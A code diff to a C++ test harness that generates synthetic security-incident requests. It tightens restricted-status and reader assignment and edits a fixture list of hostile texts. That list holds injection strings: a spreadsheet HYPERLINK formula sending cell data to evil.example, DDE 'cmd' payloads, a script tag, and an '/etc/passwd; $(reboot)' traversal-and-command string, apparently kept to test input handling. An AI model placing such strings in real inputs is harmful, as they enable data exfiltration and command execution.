@@ -65,7 +65,8 @@ class Player {
     request.set_title(absl::StrCat("Incident ", i, ": ", Hostile(i)));
     if (i % 3 != 0) request.set_summary(absl::StrCat(Hostile(i + 1), "\n", Hostile(i + 2)));
     request.set_entity(entity);
-    *request.mutable_detect_time() = chat::ToTimestamp(server_.now() - absl::Minutes(Draw(600)));
+    *request.mutable_detect_time() =
+        chat::ToTimestamp(server_.now() - absl::Minutes(IsPlain(i) ? 0 : Draw(600)));
     if (i % 11 != 10 && !IsPlain(i)) {
       const Kind& kind = kinds[static_cast<size_t>(i) % kinds.size()];
       auto* category = request.add_categories();
@@ -81,7 +82,15 @@ class Player {
     if (i % 2 == 1 && !IsPlain(i)) {
       request.set_severity(policy_.severities(i / 2 % policy_.severities_size()).code());
     }
-    request.set_restricted(i % 9 == 4);
+    bool restricted = i % 9 == 4;
+    for (const auto& assigned : request.categories()) {
+      for (const auto& category : policy_.categories()) {
+        restricted |= category.code() == assigned.category() && category.restricted();
+      }
+    }
+    request.set_restricted(restricted);
+    // Named readers only: whoever exports is one of them.
+    if (restricted) request.add_readers("people/csirt.handler");
     request.set_drill(i % 7 == 3);
     if (i % 6 == 2) {
       auto* part = request.add_other_entities();
@@ -205,7 +214,6 @@ class Player {
 }  // namespace
 
 const std::vector<std::string>& HostileTexts() {
-  using namespace std::string_literals;
   static const auto& texts = *new std::vector<std::string>{
       "an ordinary sentence",
       "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -213,7 +221,7 @@ const std::vector<std::string>& HostileTexts() {
       "<script>alert(1)</script> &amp; ]]> <!-- --> <?xml?>",
       "beyond the plane \U0001F512 \U00020BB7 and e\u0301 combining",
       "+1234 -cmd|' /C calc'!A0",
-      "controls \x01\x02\x1b[31m\x7f and \u0085 next line",
+      "tab\there and \u0085 next line and \u009b[31m C1",
       "@SUM(1+1)*cmd",
       "right \u202e to left \u05e9\u05dc\u05d5\u05dd and zero\u200bwidth",
       "../../etc/passwd; $(reboot) %s %n {{x}} ${y}",
